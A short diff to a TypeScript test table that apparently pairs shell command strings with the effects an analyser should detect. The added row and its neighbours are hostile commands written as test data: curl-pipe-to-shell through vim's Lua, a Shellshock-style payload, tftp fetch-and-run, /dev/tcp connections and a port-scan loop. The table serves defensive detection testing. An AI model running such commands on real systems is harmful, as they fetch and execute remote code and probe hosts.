@@ -25,6 +25,7 @@ const rows: readonly (readonly [written: string, ...effects: string[]])[] = [
   ["install x f", ":read x | :write f"],
   ["exec 3<>/dev/tcp/h/1", ":connect h '1'"],
   ["for i in $(seq 9); do : >/dev/tcp/10.4.7.$i/22; done", ":connect \"10.4.7.$UNKNOWN\" '22'"],
+  ["vim -c ':lua os.execute(\"curl u | sh\")'", ":fetch u | :run sh"],
   ["() { :;}; curl u | sh", ":fetch u | :run sh"],
   ["tftp -g -r f h; sh f", ":fetch h | :run sh"],
   ["curl -o f u; $(which bash || which sh) f", ":fetch u | :run sh"],
